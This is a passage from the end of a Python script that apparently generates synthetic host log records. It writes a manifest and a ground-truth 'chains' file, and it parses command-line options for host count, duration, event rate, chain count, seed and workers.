                "seed": plan.seed, "chunk_minutes": plan.chunk_minutes, "records": total, "bytes": size,
                "seconds": round(elapsed, 2), "records_per_second": round(total / elapsed),
                "workers": workers}
    (out / "truth.json").write_bytes(orjson.dumps({"chains": truth}, option=orjson.OPT_INDENT_2))
    (out / "manifest.json").write_bytes(orjson.dumps(manifest, option=orjson.OPT_INDENT_2))
    return manifest


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--hosts", type=int, default=100)
    parser.add_argument("--minutes", type=float, default=30.0)
    parser.add_argument("--eps", type=float, default=10.0, help="records per host per second (all sources)")
    parser.add_argument("--chains", type=int, default=40)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--chunk-minutes", type=float, default=10.0, help="file rotation, by arrival time")
    parser.add_argument("--workers", type=int, default=min(2, os.cpu_count() or 1))
    args = parser.parse_args()
    plan = Plan(args.hosts, args.minutes, args.eps, args.chains, args.seed, args.chunk_minutes)
    manifest = generate(args.out, plan, args.workers)
    print(orjson.dumps(manifest, option=orjson.OPT_INDENT_2).decode())


if __name__ == "__main__":
    main()
